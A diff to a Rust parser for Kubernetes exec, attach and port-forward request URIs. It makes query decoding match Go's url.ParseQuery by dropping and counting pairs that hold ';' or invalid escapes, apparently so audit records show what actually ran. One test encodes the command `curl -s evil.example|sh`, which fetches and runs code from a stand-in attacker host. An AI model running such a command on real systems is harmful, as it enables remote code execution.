@@ -1,8 +1,10 @@
 //! Exec, attach and port-forward sessions from their request URIs: the container, the command (exec), the
 //! streams and terminal, the ports (port-forward), read from the query as kube-apiserver reads it.
 //!
-//! The query is split and decoded by `form_urlencoded` (Go's `url.ParseQuery` rules: `&`-separated pairs,
-//! `+` is a space, percent escapes; an invalid escape is kept as written where Go would drop the pair).
+//! The query is split and decoded as Go's `url.ParseQuery` does, by hand because the difference is the
+//! point: `&`-separated pairs, `+` is a space, percent escapes; a pair holding a `;` or an invalid escape
+//! is dropped, as kube-apiserver drops it (a decoder that kept `echo hi;` as an argument would show a
+//! command that never ran). Dropped pairs are counted.
 //! Options are converted as kube-apiserver converts them (`runtime.Convert_Slice_string_To_bool`: the first
 //! value counts; only `false` (any case) and `0` are false, any other value, an empty one too, is true).
 
@@ -41,6 +43,8 @@ pub struct Session {
     pub tty: bool,
     /// Port-forward `ports=` values, as given.
     pub ports: Vec<String>,
+    /// Query pairs kube-apiserver ignores (a `;`, an invalid escape): not part of what ran.
+    pub dropped: usize,
 }
 
 /// The session of a request to the pod subresource `subresource` (`exec`, `attach` or `portforward`; else
@@ -61,12 +65,17 @@ pub fn parse(subresource: &str, uri: &str) -> Option<Session> {
         stderr: false,
         tty: false,
         ports: Vec::new(),
+        dropped: 0,
     };
     let query = uri.split_once('?').map_or("", |(_, q)| q);
     let mut bools: [Option<bool>; 4] = [None; 4];
     let mut bytes = 0usize;
     let mut cut = false;
-    for (key, value) in form_urlencoded::parse(query.as_bytes()) {
+    for pair in query.split('&').filter(|p| !p.is_empty()) {
+        let Some((key, value)) = go_pair(pair) else {
+            s.dropped += 1;
+            continue;
+        };
         match &*key {
             "command" if kind == SessionKind::Exec => {
                 if cut {
@@ -97,6 +106,37 @@ pub fn parse(subresource: &str, uri: &str) -> Option<Session> {
     }
     [s.stdin, s.stdout, s.stderr, s.tty] = bools.map(|b| b.unwrap_or(false));
     Some(s)
+}
+
+/// One `key=value` pair of a query, decoded as Go's `url.ParseQuery` decodes it; `None` when Go drops it
+/// (a `;` in it, an invalid percent escape, text that is not UTF-8 once decoded).
+fn go_pair(pair: &str) -> Option<(String, String)> {
+    if pair.contains(';') {
+        return None;
+    }
+    let (k, v) = pair.split_once('=').unwrap_or((pair, ""));
+    Some((unescape(k)?, unescape(v)?))
+}
+
+/// Go's `QueryUnescape`: `+` is a space, `%XX` a byte, any other `%` an error.
+fn unescape(s: &str) -> Option<String> {
+    let b = s.as_bytes();
+    let mut out = Vec::with_capacity(b.len());
+    let mut i = 0;
+    while i < b.len() {
+        match b[i] {
+            b'+' => out.push(b' '),
+            b'%' => {
+                let hex = |c: u8| (c as char).to_digit(16);
+                let (hi, lo) = (hex(*b.get(i + 1)?)?, hex(*b.get(i + 2)?)?);
+                out.push((hi * 16 + lo) as u8);
+                i += 2;
+            }
+            c => out.push(c),
+        }
+        i += 1;
+    }
+    String::from_utf8(out).ok()
 }
 
 /// A name or port from the URI: at most [`MAX_NAME`] characters, markers replaced.
@@ -229,7 +269,12 @@ mod tests {
     #[test]
     fn decodes_as_go_does() {
         let s = parse("exec", "/x?command=echo&command=a+b&command=100%25&command=%zz&command=%E2%9C%93&tty=TRUE&stdin=&stdout=False&container=c1&container=c2").unwrap();
-        assert_eq!(s.command, ["echo", "a b", "100%", "%zz", "✓"]);
+        assert_eq!(
+            s.command,
+            ["echo", "a b", "100%", "✓"],
+            "`%zz` dropped, as Go drops it"
+        );
+        assert_eq!(s.dropped, 1);
         assert!(s.tty, "any value but false and 0 is true");
         assert!(s.stdin, "an empty value is true");
         assert!(!s.stdout);
@@ -253,6 +298,22 @@ mod tests {
         assert_eq!(s.command[1], "…");
         let s = parse("exec", &format!("/x?container={big}")).unwrap();
         assert_eq!(s.container.unwrap().chars().count(), MAX_NAME + 1);
+    }
+
+    #[test]
+    fn pairs_the_apiserver_drops_are_not_part_of_the_command() {
+        // Go's ParseQuery drops a pair with a `;` or a bad escape: the apiserver runs `sh -c 'curl ...|sh'`.
+        for bad in ["echo%20hi;", "echo%zzhi", "echo%2"] {
+            let uri = format!(
+                "/api/v1/namespaces/p/pods/x/exec?command=sh&command=-c&command={bad}&command=curl%20-s%20evil.example%7Csh"
+            );
+            let s = parse("exec", &uri).unwrap();
+            assert_eq!(s.command, ["sh", "-c", "curl -s evil.example|sh"], "{bad}");
+            assert_eq!(s.dropped, 1);
+        }
+        let s = parse("exec", "/x/exec?command=a+b&command=%41").unwrap();
+        assert_eq!(s.command, ["a b", "A"]);
+        assert_eq!(s.dropped, 0);
     }
 
     #[test]
